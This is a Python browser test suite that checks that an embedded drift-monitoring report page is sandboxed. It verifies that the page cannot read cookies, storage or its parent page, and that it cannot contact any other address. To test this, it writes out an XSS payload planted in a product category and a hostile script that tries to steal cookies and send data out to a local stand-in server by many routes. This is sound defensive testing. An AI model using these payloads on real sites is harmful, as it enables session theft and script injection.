"""Evidently's page in a real browser, in a frame of a page that passes it on: it draws, and reaches nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from app.main import create_app
from app.parts import Parts
from app.settings import Settings
from model.store import drift_reports
from pipelines.drift.traffic import Traffic, records
from pipelines.steps import monitor_drift
from tests.app.drift_rows import drift_report, keep_report
from tests.app.served_app import served
from tests.app.service_client import ServiceWriter, add_client, bearer, embedded
from tests.pipelines.drift_log import HOUR, START, Plant
from tests.ui.page_parts import chromium, serving

pytestmark = pytest.mark.slow

HOURS = 4
HOSTILE_CATEGORY = "</script><script>document.title='reached'</script><img src=x onerror=\"document.title='reached'\">"
FRAME_POLICY = "default-src 'none'; style-src 'unsafe-inline'; frame-src 'self'"
STYLE = "<style>iframe {width: 1200px; height: 800px}</style>"
HOSTILE_PAGE = """<!DOCTYPE html><title>begun</title><body><script>
const got = {}, elsewhere = "ELSEWHERE";
const attempt = async (name, act) => {
  try { got[name] = String(await act() ?? "done").slice(0, 60); } catch (error) { got[name] = "refused"; }
};
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.getItem("secret"));
  await attempt("parent", () => parent.document.title);
  await attempt("fetch", async () => (await fetch(elsewhere + "/fetch")).status);
  await attempt("own", async () => (await fetch("/own", {credentials: "include"})).status);
  await attempt("picture", () => new Promise((yes, no) => {
    const image = new Image(); image.onload = yes; image.onerror = no; image.src = elsewhere + "/picture"; }));
  await attempt("script", () => new Promise((yes, no) => {
    const script = document.createElement("script"); script.onload = yes; script.onerror = no;
    script.src = elsewhere + "/script"; document.head.append(script); }));
  await attempt("socket", () => new Promise((yes, no) => {
    const socket = new WebSocket(elsewhere.replace("http", "ws")); socket.onopen = yes; socket.onerror = no; }));
  await attempt("beacon", () => { if (!navigator.sendBeacon(elsewhere + "/beacon")) throw 0; });
  await attempt("window", () => { if (!open(elsewhere + "/window")) throw 0; });
  await attempt("top", () => { top.location = elsewhere + "/top"; });
  await attempt("form", () => { const form = document.createElement("form"); form.action = elsewhere + "/form";
    document.body.append(form); form.submit(); });
  window.got = got; document.title = "ended";
})();
</script>"""


@dataclass
class Scene:
    """A page that shows the report in a frame, and a place where nothing may arrive."""

    url: str
    elsewhere: str
    service: Parts
    headers: dict[str, str]
    arrived: list[str] = field(default_factory=list)


@contextmanager
def passing_on(api: str, headers: dict[str, str], arrived: list[str]) -> Iterator[str]:
    """What adloom-ui does: the report with its policy, in a frame of a page that has cookies and storage."""

    async def frame(request: Request) -> Response:
        page = f'<title>host</title>{STYLE}<iframe src="/report/{request.path_params["id"]}"></iframe>'
        answer = HTMLResponse(page, headers={"Content-Security-Policy": FRAME_POLICY})
        answer.set_cookie("session", "s3cret")
        return answer

    async def report(request: Request) -> Response:
        async with httpx.AsyncClient(headers=headers) as client:
            answer = await client.get(f"{api}/v1/drift/{request.path_params['id']}/page")
        kept = {name: answer.headers[name] for name in ("content-type", "content-security-policy")}
        return Response(answer.content, answer.status_code, kept)

    async def other(request: Request) -> Response:
        arrived.append(request.url.path)
        return Response("")

    routes = [Route("/frame/{id}", frame), Route("/report/{id}", report), Route("/{path:path}", other)]
    with serving(Starlette(routes=routes)) as url:
        yield url


@pytest.fixture(scope="module")
def plant(tmp_path_factory: pytest.TempPathFactory) -> Plant:
    """Four hours of traffic, a reference of them, and the report of the last; a merchant named a category badly."""
    made = Plant(tmp_path_factory.mktemp("plant"))
    made.database.upgrade()
    for hour in range(HOURS):
        lines = records(Traffic(seed=hour), START + hour * HOUR, START + (hour + 1) * HOUR, 900)
        made.put(hour, b"\n".join(json.dumps(with_hostile_category(line)).encode() for line in lines) + b"\n")
    with pytest.MonkeyPatch.context() as patch:
        for name, value in made.environment.items():
            patch.setenv(name, value)
        times = [(START + hour * HOUR).isoformat() for hour in (0, HOURS - 1, HOURS)]
        monitor_drift.main(["reference", "--since", times[0], "--until", times[2], "--draws", "200"])
        monitor_drift.main(["--since", times[1], "--until", times[2]])
    return made


def with_hostile_category(line: Any) -> dict[str, Any]:
    product = line["product"]
    if product["category"].startswith("Kitchen"):
        product = {**product, "category": HOSTILE_CATEGORY}
    return {**line, "product": product}


@pytest.fixture(scope="module")
def scene(plant: Plant, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    stores = {"database_url": plant.url, "objects_url": plant.environment["ADLOOM_OBJECTS_URL"]}
    app = create_app(Settings(**(embedded(tmp_path_factory.mktemp("api")) | stores)), writer=ServiceWriter())
    parts: Parts = app.state.parts
    add_client(parts)
    headers, arrived = bearer(parts), list[str]()
    with (
        served(app) as (host, port),
        passing_on(f"http://{host}:{port}", headers, arrived) as url,
        serving(Starlette(routes=[Route("/{path:path}", _arrival(arrived))])) as elsewhere,
    ):
        yield Scene(url, elsewhere, parts, headers, arrived)


def _arrival(arrived: list[str]) -> Any:
    async def arrive(request: Request) -> Response:
        arrived.append(str(request.url))
        return Response("")

    return arrive


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with chromium() as opened:
        yield opened


@contextmanager
def framed(browser: Any, scene: Scene, report_id: str) -> Iterator[tuple[Any, list[str]]]:
    """The frame of the report, and every address that the browser was asked for from there on."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(60_000)
    asked: list[str] = []
    try:
        page = context.new_page()
        context.on("request", lambda request: asked.append(request.url))
        page.goto(f"{scene.url}/frame/{report_id}")
        yield next(frame for frame in page.frames if frame != page.main_frame), asked
    finally:
        context.close()


def test_the_page_that_evidently_made_draws_in_the_sandbox_and_asks_for_nothing(
    browser: Any, scene: Scene, plant: Plant, tmp_path: Path
) -> None:
    with plant.database.connect() as connection:
        report = drift_reports.newest(connection, "online")
    assert report is not None
    complaints: list[str] = []
    with framed(browser, scene, report.id) as (frame, asked):
        frame.page.on("pageerror", lambda error: complaints.append(str(error)))
        frame.get_by_text("title_chars").first.wait_for()
        frame.locator("svg").first.wait_for(state="attached")
        frame.get_by_text("Data distribution").first.click()  # what is folded away is in the page, too
        frame.locator("svg .barlayer").first.wait_for(state="attached")
        shown, title = frame.locator("body").inner_text(), frame.title()
        frame.page.screenshot(path=tmp_path / "report.png")
        loaded = [each for each in asked if not each.startswith("data:")]

    assert "unknown_word_share" in shown
    assert title != "reached"
    assert loaded == [f"{scene.url}/frame/{report.id}", f"{scene.url}/report/{report.id}"]
    assert complaints == []


def test_whatever_stands_in_a_page_gets_at_no_cookie_no_storage_no_page_around_it_and_no_address(
    browser: Any, scene: Scene
) -> None:
    page = HOSTILE_PAGE.replace("ELSEWHERE", scene.elsewhere).encode()
    report_id = keep_report(scene.service, drift_report(7), page)
    scene.arrived.clear()
    with framed(browser, scene, report_id) as (frame, _):
        frame.wait_for_function("document.title == 'ended'")
        got = frame.evaluate("window.got")
        host = frame.page.title()

    # Those two tell a script nothing; that nothing arrived tells us.
    assert {name for name, said in got.items() if said != "refused"} <= {"beacon", "form"}
    assert set(got) == {
        "cookie", "storage", "parent", "fetch", "own", "picture", "script", "socket", "beacon", "window", "top", "form",
    }  # fmt: skip
    assert (scene.arrived, host) == ([], "host")


def test_a_frame_is_not_led_elsewhere_by_what_stands_in_it(browser: Any, scene: Scene) -> None:
    page = f"<!DOCTYPE html><title>begun</title><script>location = '{scene.elsewhere}/led'</script>".encode()
    report_id = keep_report(scene.service, drift_report(8), page)
    scene.arrived.clear()
    with framed(browser, scene, report_id) as (frame, _):
        frame.page.wait_for_function("frames.length == 1")
        frame.page.wait_for_timeout(500)  # nothing tells that nothing has happened

    assert scene.arrived == []


def test_another_origin_may_not_frame_the_page(browser: Any, scene: Scene) -> None:
    report_id = keep_report(scene.service, drift_report(9), b"<!DOCTYPE html><title>mine</title><p>shown</p>")
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"{scene.elsewhere}/empty")
        page.set_content(f'<iframe src="{scene.url}/report/{report_id}"></iframe>')
        page.wait_for_load_state("networkidle")
        texts = [frame.locator("body").inner_text() for frame in page.frames if frame != page.main_frame]
    finally:
        context.close()

    assert not [text for text in texts if "shown" in text]
